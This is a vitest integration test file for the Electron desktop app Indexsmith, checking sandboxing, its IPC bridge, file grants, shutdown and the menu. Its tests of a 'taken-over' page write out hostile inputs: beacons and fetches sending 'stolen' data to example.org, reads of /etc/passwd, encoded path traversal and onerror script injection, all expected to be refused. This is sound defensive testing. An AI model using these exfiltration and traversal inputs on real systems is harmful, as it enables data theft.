/** The whole desktop program over the stand-in: real preload, real IPC, real engine, real Chromium. */
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type * as Electron from 'electron';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { connectionOf } from '../../../../src/main/store/connection.ts';
import { openStore } from '../../../../src/main/store/open.ts';
import { instantOf } from '../../../../src/shared/time.ts';
import { closeChromium } from '../../../support/electron-stand-in/chromium.ts';
import { createPlace, createProgram, type Place, type Program } from '../../../support/electron-stand-in/program.ts';

let place: Place;
let program: Program;
afterAll(closeChromium);

async function openPlace(): Promise<void> {
  place = await createPlace();
  program = await createProgram(place);
}

async function leavePlace(): Promise<void> {
  await program.quit();
  place.remove();
}

/** Each test has a program of its own, which it starts. */
function withOwnProgram(): void {
  beforeEach(openPlace);
  afterEach(leavePlace);
}

/** The tests have one running program between them. */
function withSharedProgram(): void {
  beforeAll(async () => {
    await openPlace();
    await program.start();
    await program.page();
  });
  afterAll(leavePlace);
}

const storePath = (): string => join(place.home, 'indexsmith.sqlite');
const openOwnStore = () => openStore(storePath(), { clock: () => instantOf(0) });

/** Calls the engine from the page. */
async function call(id: number, name: string, input: object): Promise<unknown> {
  const page = await program.page();
  return page.evaluate(`window.indexsmith.call(${id}, ${JSON.stringify(name)}, ${JSON.stringify(input)})`);
}

describe('the window', () => {
  withOwnProgram();

  test('has no Node, is sandboxed and isolated, and is shown once it is painted', async () => {
    await program.start();
    const window = program.window();
    expect(window.isVisible()).toBe(false);
    await program.page();
    expect(window.isVisible()).toBe(true);
    expect(window.options.webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      webviewTag: false,
      spellcheck: false,
      devTools: false,
    });
  });

  test('loads its page again when that has crashed, but not one that crashes at once', async () => {
    await program.start();
    const page = await program.page();
    const { webContents: contents } = program.window();
    let loads = 0;
    contents.on('did-navigate', () => {
      loads += 1;
    });
    contents.emit('render-process-gone', {}, { reason: 'clean-exit' });
    contents.emit('render-process-gone', {}, { reason: 'crashed' });
    await expect.poll(() => loads).toBe(1);
    contents.emit('render-process-gone', {}, { reason: 'crashed' });
    await page.waitForLoadState();
    expect(await call(1, 'system.status', {})).toMatchObject({ ok: true });
    expect(loads).toBe(1);
  });

  test('takes its background from the system, so that nothing flashes', async () => {
    program.desk.isDark = true;
    await program.start();
    expect(program.window().options.backgroundColor).toBe('#0d1015');
  });
});

describe('the bounds of the window', () => {
  withOwnProgram();

  const again = async (): Promise<Electron.Rectangle> => {
    await program.quit();
    program = await createProgram(place);
    return boundsOf();
  };
  const boundsOf = async (): Promise<Electron.Rectangle> => {
    await program.start();
    await program.page();
    return program.window().getNormalBounds();
  };

  test('are those with which it was closed', async () => {
    await boundsOf();
    program.window().setBounds({ x: 37, y: 41, width: 1_111, height: 777 });
    program.window().maximize();
    expect(await again()).toEqual({ x: 37, y: 41, width: 1_111, height: 777 });
    expect(program.window().isMaximized()).toBe(true);
  });

  test('are repaired where they would not be seen any more', async () => {
    await boundsOf();
    program.window().setBounds({ x: 9_000, y: -3_000, width: 1_000, height: 700 });
    expect(await again()).toEqual({ x: 920, y: 0, width: 1_000, height: 700 });
  });
});

describe('a call of the page', () => {
  withSharedProgram();

  test('has the bridge, and nothing of the preload script behind it', async () => {
    const page = await program.page();
    expect(await page.evaluate('Object.keys(window.indexsmith)')).toEqual([
      'call',
      'stop',
      'subscribe',
      'offerFiles',
      'chooseFiles',
      'openReport',
    ]);
    expect(await page.evaluate('[typeof require, typeof process, typeof module]')).toEqual(Array(3).fill('undefined'));
  });

  test('is answered by the engine', async () => {
    expect(await call(1, 'system.status', {})).toMatchObject({ ok: true, value: { assetCount: 0 } });
  });

  test.each([
    ['an endpoint that is not on the contract', 'files.read', {}, 'not-found'],
    ['an event', 'data.changed', {}, 'not-found'],
    ['wrong input', 'system.status', { hash: 'yes' }, 'invalid-input'],
    ['the command line alone', 'bench.run', { name: 'hrp', dataPath: '/' }, 'not-found'],
    ['a path of the machine', 'imports.run', { paths: ['/etc/passwd'] }, 'not-found'],
  ])('to %s is an answer, too', async (_, name, input, code) => {
    expect(await call(1, name, input)).toMatchObject({ ok: false, error: { code } });
  });

  test('makes events that arrive in the page, until it has heard enough', async () => {
    const page = await program.page();
    await page.evaluate(`{
      window.heard = [];
      window.arrived = new Promise((resolve) => {
        window.undo = window.indexsmith.subscribe((name, payload) => {
          window.heard.push({ name, payload });
          if (name === 'data.changed') resolve();
        });
      });
      undefined;
    }`);
    await call(1, 'feeds.simulate', { assetCount: 20, dayCount: 400 });
    await page.evaluate('window.arrived');
    const heard = (await page.evaluate('window.heard')) as { name: string; payload: Record<string, unknown> }[];
    expect(heard.map(({ name }) => name)).toEqual(expect.arrayContaining(['data.changed', 'calls.changed']));
    await page.evaluate('window.undo(); window.heard = []');
    await call(2, 'workspaces.open', { id: 'sample' });
    // the next event that the page can see at all is behind the one that it must not hear
    program.window().webContents.send('event', []);
    await page.evaluate('1');
    expect(await page.evaluate('window.heard')).toEqual([]);
  });
});

describe('a page that was taken over', () => {
  withSharedProgram();

  const goTo = async (url: string): Promise<void> => {
    const page = await program.page();
    const denied = new Promise<void>((resolve) =>
      program.window().webContents.once('will-frame-navigate', () => resolve()),
    );
    await page.evaluate(`{ location.href = ${JSON.stringify(url)}; }`);
    await denied;
    await page.evaluate('1');
  };

  test('cannot go elsewhere', async () => {
    await goTo('https://example.org/?stolen');
    expect(program.window().webContents.mainFrame.url).toBe('app://indexsmith/index.html');
    expect(program.desk.foreignRequests).toEqual([]);
    expect(program.desk.openedExternally).toEqual([]);
  });

  test('cannot reach the network', async () => {
    const page = await program.page();
    const outcomes = await page.evaluate(`Promise.all([
      fetch('https://example.org/').then(() => 'sent', () => 'refused'),
      new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve('sent');
        image.onerror = () => resolve('refused');
        image.src = 'https://example.org/pixel.png?stolen';
      }),
      new Promise((resolve) => {
        const socket = new WebSocket('wss://example.org/');
        socket.onopen = () => resolve('sent');
        socket.onerror = () => resolve('refused');
      }),
      Promise.resolve(navigator.sendBeacon('https://example.org/', 'stolen')).then((sent) => (sent ? 'queued' : 'refused')),
    ])`);
    expect(outcomes).toEqual(['refused', 'refused', 'refused', expect.any(String)]);
    expect(program.desk.foreignRequests).toEqual([]);
  });

  test('cannot run text as script', async () => {
    const page = await program.page();
    const [inline, handler] = (await page.evaluate(`{
      const script = document.createElement('script');
      try { script.text = 'window.ran = true'; document.body.append(script); } catch {}
      const attempts = [window.ran === undefined];
      try { document.body.innerHTML = '<img src="x" onerror="window.ran = true">'; } catch { attempts.push(true); }
      attempts
    }`)) as boolean[];
    expect({ inline, handler }).toEqual({ inline: true, handler: true });
  });

  test('cannot embed or open a page, and a link to a listed host goes to the browser of the system', async () => {
    const page = await program.page();
    await page.evaluate(`{
      const frame = document.createElement('iframe');
      frame.src = 'https://example.org/';
      document.body.append(frame);
      undefined;
    }`);
    for (const url of [
      'https://example.org/',
      'about:blank',
      'app://indexsmith/index.html',
      'https://doi.org/10.1/x?y=1',
    ]) {
      await page.evaluate(`{ window.open(${JSON.stringify(url)}); }`);
    }
    await expect.poll(() => program.desk.openedExternally).toEqual(['https://doi.org/10.1/x']);
    await expect.poll(() => page.context().pages().length).toBe(1);
    expect(program.desk.foreignRequests).toEqual([]);
  });

  test('is given no permission', async () => {
    const page = await program.page();
    const states = await page.evaluate(
      `Promise.all(['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read'].map((name) =>
        navigator.permissions.query({ name }).then(({ state }) => state)))`,
    );
    expect(states).toEqual(Array(6).fill('denied'));
  });

  test('cannot read a file that the user did not hand over', async () => {
    const page = await program.page();
    const forged = `window.indexsmith.offerFiles([new File(['a,b'], '/etc/passwd')]).then(() => 'given', ({ message }) => message)`;
    expect(await page.evaluate(forged)).toContain('lies nowhere on this machine');
    const path = `window.indexsmith.offerFiles(['/etc/passwd']).then(() => 'given', ({ message }) => message)`;
    expect(await page.evaluate(path)).not.toBe('given');
    expect(await page.evaluate(`fetch('file:///etc/passwd').then(() => 'read', () => 'refused')`)).toBe('refused');
    const climbing = `fetch('/..%2f..%2f..%2f..%2fetc/passwd').then(({ status }) => status)`;
    expect(await page.evaluate(climbing)).toBe(404);
  });
});

describe('files of the user', () => {
  withSharedProgram();

  const CANDLES = ['date,asset,open,high,low,close,volume,market_cap', '2020-01-01,BTC,1,2,1,2,5,'].join('\n');

  test('are imported once they were dropped', async () => {
    const page = await program.page();
    const file = join(place.rendererFolder, 'candles.csv');
    writeFileSync(file, CANDLES);
    await page.evaluate(`{
      const input = document.createElement('input');
      input.type = 'file';
      document.body.append(input);
      undefined;
    }`);
    await page.setInputFiles('input', file);
    const handles = (await page.evaluate(
      `window.indexsmith.offerFiles([...document.querySelector('input').files])`,
    )) as string[];
    expect(handles).toEqual([expect.stringMatching(/^grant:/)]);
    const answer = await call(1, 'imports.run', { paths: handles });
    expect(answer).toMatchObject({ ok: true, value: { inserted: 1, files: [{ file: 'candles.csv' }] } });
    expect(JSON.stringify(answer)).not.toContain(place.rendererFolder);
  });

  test('are imported once they were chosen, and not if the user thought better of it', async () => {
    const page = await program.page();
    const folder = join(place.rendererFolder, 'data');
    mkdirSync(folder);
    const { desk } = program;
    desk.messageChoices.push({ response: 0, checkboxChecked: false }, { response: 2, checkboxChecked: false });
    desk.fileChoices.push({ canceled: false, filePaths: [folder] });
    expect(await page.evaluate('window.indexsmith.chooseFiles()')).toEqual([
      { handle: expect.stringMatching(/^grant:/), name: 'data' },
    ]);
    expect(await page.evaluate('window.indexsmith.chooseFiles()')).toEqual([]);
  });

  test('a report opens in the browser of the system, by the id of its backtest alone', async () => {
    const page = await program.page();
    const open = (id: string): Promise<unknown> => page.evaluate(`window.indexsmith.openReport(${JSON.stringify(id)})`);
    mkdirSync(join(place.home, 'reports'));
    writeFileSync(join(place.home, 'reports', 'abcdef012345.html'), '');
    writeFileSync(join(place.home, 'secret.html'), '');
    expect(await open('abcdef0123456789')).toEqual({ ok: true, value: null });
    expect(await open('abcdef012346')).toMatchObject({ ok: false, error: { code: 'not-found' } });
    expect(await open('../secret')).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    expect(program.desk.openedPaths).toEqual([join(place.home, 'reports', 'abcdef012345.html')]);
  });
});

describe('an end', () => {
  withOwnProgram();

  test('closes the store, so that the next program can write to it', async () => {
    await program.start();
    await program.page();
    expect(() => openOwnStore()).toThrow('open for writing already');
    expect(await program.quit()).toBe(0);
    openOwnStore().close();
    expect(readdirSync(place.home).filter((name) => name.endsWith('-wal'))).toEqual([]);
  });

  test('cancels what runs, and keeps the store whole', async () => {
    await program.start();
    const page = await program.page();
    await page.evaluate(`{
      window.running = new Promise((resolve) => window.indexsmith.subscribe((name) => name === 'calls.changed' && resolve()));
      void window.indexsmith.call(1, 'feeds.simulate', { assetCount: 2000, dayCount: 2000 });
      undefined;
    }`);
    await page.evaluate('window.running');
    expect(await program.quit()).toBe(0);
    const store = openOwnStore();
    const { database } = connectionOf(store);
    expect(database.pragma('quick_check', { simple: true })).toBe('ok');
    expect(database.prepare('SELECT count(*) AS n FROM candles').get()).toEqual({ n: 0 });
    store.close();
  });

  test('comes with the last window', async () => {
    await program.start();
    await program.page();
    program.window().close();
    expect(await program.app.ended).toBe(0);
    openOwnStore().close();
  });
});

describe('a second start', () => {
  withOwnProgram();

  test('brings the first window to the front and ends', async () => {
    await program.start();
    await program.page();
    const window = program.window();
    window.minimize();
    const second = await createProgram(place);
    await second.start();
    expect(await second.app.ended).toBe(0);
    expect([...second.app.windows]).toEqual([]);
    expect({ isMinimized: window.isMinimized(), isFocused: window.isFocused() }).toEqual({
      isMinimized: false,
      isFocused: true,
    });
  });
});

describe('what keeps the program from starting', () => {
  withOwnProgram();

  test('another program that writes to the store', async () => {
    mkdirSync(place.home);
    const store = openOwnStore();
    await program.start();
    store.close();
    expect(await program.app.ended).toBe(1);
    expect(program.desk.errorBoxes).toEqual([
      {
        title: 'Indexsmith could not start',
        content: expect.stringMatching(/was open for writing already.*\n\nClose the other/),
      },
    ]);
  });

  test('a store of a newer version, which stays as it was', async () => {
    mkdirSync(place.home);
    const store = openOwnStore();
    connectionOf(store).database.pragma('user_version = 9999');
    store.close();
    const before = readFileSync(storePath());
    await program.start();
    expect(await program.app.ended).toBe(1);
    expect(program.desk.errorBoxes[0]?.content).toMatch(/9999[\s\S]*install that version/);
    expect(readFileSync(storePath()).equals(before)).toBe(true);
  });

  test('a home that cannot be made', async () => {
    writeFileSync(place.home, 'a file');
    await program.start();
    expect(await program.app.ended).toBe(1);
    expect(program.desk.errorBoxes[0]?.content).toMatch(/could not be made[\s\S]*Check that the folder exists/);
  });
});

describe('the menu', () => {
  withSharedProgram();

  test('tells the page what to do', async () => {
    const page = await program.page();
    await page.evaluate(`{
      window.told = new Promise((resolve) => window.indexsmith.subscribe((name, payload) => resolve([name, payload])));
      undefined;
    }`);
    program.chooseMenu('Ratings');
    expect(await page.evaluate('window.told')).toEqual(['shell.command', { command: 'go-ratings' }]);
  });

  test('has no developer tools in a packaged program', async () => {
    expect(JSON.stringify(program.electron.shownMenu())).not.toMatch(/toggleDevTools|"reload"/);
  });

  test('opens the folder of logs', async () => {
    program.chooseMenu('Open the Folder of Logs');
    await expect.poll(() => program.desk.openedPaths.length).toBe(1);
    expect(existsSync(program.desk.openedPaths[0] as string)).toBe(true);
  });
});
